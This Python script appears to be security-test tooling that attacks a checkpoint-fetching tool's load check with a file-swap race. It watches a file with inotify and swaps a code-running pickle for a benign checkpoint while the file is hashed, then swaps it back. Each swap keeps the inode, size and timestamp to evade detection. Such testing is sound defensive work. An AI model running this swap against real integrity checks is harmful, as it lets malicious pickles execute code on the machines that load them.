"""The job's user attacking fetch's load check (stdlib only: it runs in the unit tests and, as
the job's user, on a testbed node): TARGET holds a raw pickle that would run code, padded to the
size of GOOD (a checkpoint that loads). When something first opens TARGET (fetch hashing it),
wait a moment (the hash of a small file is done, the load check not yet) and rewrite TARGET in
place with GOOD's bytes; when that reader closes the file, rewrite it back to the raw pickle.
Every rewrite keeps the inode, the size and the mtime (to the nanosecond). Prints what it did.

    python3 swap_attack.py TARGET GOOD SECONDS"""
import ctypes
import os
import select
import struct
import sys
import time

IN_OPEN, IN_CLOSE_NOWRITE = 0x20, 0x10


def rewrite(path, data):
    st = os.stat(path)
    fd = os.open(path, os.O_WRONLY)  # in place: same inode, no truncation
    try:
        os.write(fd, data)
    finally:
        os.close(fd)
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))


def events(fd, deadline):
    """inotify event masks as they come, until the deadline."""
    while (left := deadline - time.monotonic()) > 0:
        if not select.select([fd], [], [], left)[0]:
            return
        buf = os.read(fd, 4096)
        while buf:
            _, mask, _, n = struct.unpack_from("iIII", buf)
            yield mask
            buf = buf[16 + n:]


def main(target, good_path, seconds):
    bad = open(target, "rb").read()
    good = open(good_path, "rb").read()
    assert len(bad) == len(good), "pad the raw pickle to the good checkpoint's size"
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init1(0)
    if fd < 0 or libc.inotify_add_watch(fd, target.encode(), IN_OPEN | IN_CLOSE_NOWRITE) < 0:
        sys.exit("inotify failed")
    print("watching", flush=True)
    deadline = time.monotonic() + seconds
    stage = "wait-open"
    for mask in events(fd, deadline):
        if stage == "wait-open" and mask & IN_OPEN:
            time.sleep(0.2)
            rewrite(target, good)
            print("rewrote with the good checkpoint", flush=True)
            stage = "wait-close"
        elif stage == "wait-close" and mask & IN_CLOSE_NOWRITE:
            rewrite(target, bad)
            print("rewrote back with the raw pickle", flush=True)
            return


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], float(sys.argv[3]))
